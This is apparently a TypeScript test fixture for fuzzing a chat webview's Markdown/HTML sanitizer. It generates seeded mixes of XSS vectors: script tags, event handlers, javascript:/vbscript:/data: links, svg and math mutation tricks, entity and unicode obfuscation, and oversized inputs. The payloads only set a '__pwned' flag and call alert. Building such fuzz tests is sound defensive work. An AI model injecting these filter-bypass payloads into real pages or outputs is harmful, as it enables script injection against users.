/**
 * Hostile answers for the chat webview fuzz test: Markdown and HTML that try to run script (script tags, event
 * handlers, javascript:/vbscript:/data: URLs, svg and math tricks, iframes, meta refresh, forms), to load
 * something (images, styles, objects), or to break the filters (nested and unbalanced tags, comments, entity
 * tricks, huge strings, unicode controls), mixed at random from a seeded PRNG so a failure reproduces from its
 * seed and index. Every script payload sets `__pwned` and every remote URL contains "pwned", which the test probes.
 */

/** mulberry32: small, fast, and the same sequence everywhere for a seed. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const JS = 'window.__pwned=1;top.__pwned=1;alert(1)';
const REMOTE = 'https://pwned.invalid/x';

/** The attack vectors, each a template on its own. */
const VECTORS: readonly string[] = [
  `<script>${JS}</script>`,
  `<SCRIPT SRC=${REMOTE}.js></SCRIPT>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<img src=x onerror="${JS}">`,
  `<img src="${REMOTE}.png">`,
  `<svg onload="${JS}"><circle r=9 /></svg>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><a xlink:href="javascript:${JS}"><text x=9 y=9>go</text></a></svg>`,
  `<svg><animate onbegin="${JS}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${JS}">`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`,
  `<object data="${REMOTE}.swf"></object><embed src="${REMOTE}.swf">`,
  `<style>@import '${REMOTE}.css'; body { background: url(${REMOTE}-bg.png) }</style>`,
  `<p style="background:url(${REMOTE}-style.png)">styled</p>`,
  `<link rel=stylesheet href="${REMOTE}.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<base href="${REMOTE}/">`,
  `<form action="javascript:${JS}"><button>go</button></form>`,
  `<input autofocus onfocus="${JS}">`,
  `<details open ontoggle="${JS}"><summary>x</summary></details>`,
  `<a href="javascript:${JS}">click</a>`,
  `<a href="jav&#x61;script:${JS}">entity</a>`,
  `<a href="java\tscript:${JS}">tab</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${JS}">decimal</a>`,
  `<a href="https://ok.example/" onmouseover="${JS}" style="position:fixed;inset:0">cover</a>`,
  `<p onclick="${JS}" class="x" id="app">para</p>`,
  `<code class="hljs" onfocus="${JS}" tabindex=0 autofocus>code</code>`,
  `<pre data-block="1" onmouseenter="${JS}">pre</pre>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`,
  `<!--<script>${JS}</script>-->`,
  `<![CDATA[<script>${JS}</script>]]>`,
  `<template><script>${JS}</script></template>`,
  `<video><source onerror="${JS}"></video><audio src=x onerror="${JS}">`,
  `<body onload="${JS}">`,
  `<table><tr><td background="${REMOTE}.png" onmouseover="${JS}">cell</td></tr></table>`,
  `[link](javascript:${JS})`,
  `[link](JaVaScRiPt:${JS})`,
  `[link](vbscript:msgbox)`,
  `[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[ok](https://ok.example/ "title\\" onmouseover=\\"${JS}")`,
  `![img](${REMOTE}.png)`,
  `![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![img"onerror="${JS}](x)`,
  `<javascript:${JS}>`,
  `<${REMOTE}-autolink>`,
  `[ref][1]\n\n[1]: javascript:${JS}`,
  '```"><img src=x onerror=window.__pwned=1>\ncode\n```',
  '```js\n</code></pre><script>window.__pwned=1</script>\n```',
  '`<script>window.__pwned=1</script>`',
  '<p><a href="https://ok.example/"><em><strong>unclosed',
  '</p></code></pre></a><script>window.__pwned=1</script>',
  '<<script>script>window.__pwned=1<</script>/script>',
  '<p <script>window.__pwned=1</script>>',
  '<a href="https://ok.example/"<img src=x onerror=window.__pwned=1>>',
  '<em>'.repeat(300) + 'deep' + '</em>'.repeat(150),
  '<blockquote>'.repeat(200) + 'quote',
  '> '.repeat(100) + 'nested quote',
  '- '.repeat(80) + 'nested list',
  '\u202e<script>window.__pwned=1</script>\u202d',
  '\u0000<scr\u0000ipt>window.__pwned=1</scr\u0000ipt>',
  '<scr\u200bipt>window.__pwned=1</scr\u200bipt>\ufeff\u2028\u2029',
  '\ud800\udfff\ud800 unpaired surrogates \udc00',
  '\u001b[31m terminal escape \u0007 bell \u0008 backspace',
];

/** Huge strings, built only when picked (each is 50–200 KB). */
const HUGE: ReadonlyArray<() => string> = [
  () => 'A'.repeat(200_000),
  () => '*'.repeat(50_000),
  () => '['.repeat(30_000) + ']('.repeat(10_000),
  () => '<em>'.repeat(20_000),
  () => `<a href="${'https://ok.example/'.padEnd(60_000, 'x')}">long</a>`,
  () => '|a|b|\n|-|-|\n' + '|<script>window.__pwned=1</script>|x|\n'.repeat(2_000),
];

const WRAPPERS: ReadonlyArray<(s: string) => string> = [
  (s) => s,
  (s) => `Some text before.\n\n${s}\n\nSome text after.`,
  (s) => `- item\n- ${s}`,
  (s) => `> ${s}`,
  (s) => `# ${s}`,
  (s) => `| a | b |\n|---|---|\n| ${s.replace(/\n/g, ' ')} | x |`,
  (s) => `**${s}**`,
  (s) => `[${s}](https://ok.example/)`,
  (s) => '```\n' + s + '\n```',
  (s) => `1. ${s}\n2. more`,
];

const NOISE = ['\u200b', '\u202e', '\u0000', '\u00ad', '\ufeff', '\t', '\r', '\u2028', '&#x3C;', '&lt;', '\\', '%3C'];

/** Randomly upper-cases letters of tag and attribute names: filters must not depend on case. */
function mutateCase(text: string, random: () => number): string {
  return text.replace(/<\/?[a-z][a-z0-9]*|\s(on[a-z]+|href|src|style)=/gi, (m) => [...m].map((c) => (random() < 0.4 ? c.toUpperCase() : c)).join(''));
}

/** `count` payloads from `seed`; the same seed gives the same list. */
export function hostilePayloads(seed: number, count: number): string[] {
  const random = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)];
  const payloads: string[] = [];
  for (let i = 0; i < count; i++) {
    // The first pass shows every vector on its own; then mixtures.
    if (i < VECTORS.length) {
      payloads.push(VECTORS[i]);
      continue;
    }
    if (random() < 0.02) {
      payloads.push(pick(HUGE)());
      continue;
    }
    const parts = Array.from({ length: 1 + Math.floor(random() * 4) }, () => pick(VECTORS));
    let text = parts.join(random() < 0.5 ? '\n\n' : '');
    if (random() < 0.5) text = mutateCase(text, random);
    if (random() < 0.3) {
      const at = Math.floor(random() * text.length);
      text = text.slice(0, at) + pick(NOISE) + text.slice(at);
    }
    payloads.push(pick(WRAPPERS)(text));
  }
  return payloads;
}
